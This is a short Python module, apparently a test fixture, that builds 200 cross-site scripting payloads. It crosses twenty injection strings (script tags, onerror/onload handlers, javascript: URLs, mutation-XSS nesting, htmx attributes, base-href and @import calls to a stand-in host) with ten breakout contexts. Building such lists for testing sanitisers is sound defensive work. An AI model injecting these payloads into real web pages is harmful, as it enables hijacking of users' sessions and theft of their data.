"""Two hundred texts that would run as a script wherever a page took them for markup."""

RUNS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<body onpageshow=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>", "<details open ontoggle=alert(1)>", "<base href=//x>",
    "<meta http-equiv=refresh content=0;//x>", "<object data=javascript:alert(1)>",
    "<form><button formaction=javascript:alert(1)>x", "<style>@import'//x'</style>",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>",
    "<div hx-on:click=alert(1) hx-get=//x>",
    "{{ 7*7 }}<b>", "${alert(1)}<b>", "<!--><b>", "<x/y=z>",
)  # fmt: skip
INTO = ("{}", '">{}', "'>{}", "</title>{}", "</textarea>{}", "</script>{}", "-->{}", "]]>{}",
        "\u202e{}", "Goran {} Primer")  # fmt: skip
PAYLOADS = [into.format(run) for run in RUNS for into in INTO]
